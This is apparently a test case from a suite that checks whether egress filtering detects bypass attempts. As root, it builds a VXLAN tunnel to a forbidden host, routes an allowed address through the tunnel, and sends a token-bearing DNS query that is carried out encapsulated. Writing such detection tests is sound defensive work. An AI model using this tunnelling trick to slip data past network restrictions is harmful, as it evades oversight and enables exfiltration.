#!/usr/bin/python3
# id: b10b_vxlan_to_forbidden
# title: VXLAN device to the forbidden host, with the route of the allowed address through it
# needs: root
# expect: detect
# why: the packet inside is allowed; what carries it is sent by the kernel
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
import subprocess
def f():
    if subprocess.run(f'ip link add bpv type vxlan id 42 remote {FORB} dstport 4789 dev v0', shell=True).returncode: cannot('no vxlan')
    try:
        subprocess.run(f'ip link set bpv up; ip route add {ALLOW}/32 dev bpv src {myip()}; ip neigh add {ALLOW} lladdr 02:00:00:00:00:66 dev bpv', shell=True)
        socket.socket(type=socket.SOCK_DGRAM).sendto(dnsq(f'{TOK}.{ANAME}'), (ALLOW, 53)); time.sleep(.3)
    finally: subprocess.run('ip link del bpv', shell=True)
attempt(f, chan=('pkt',))
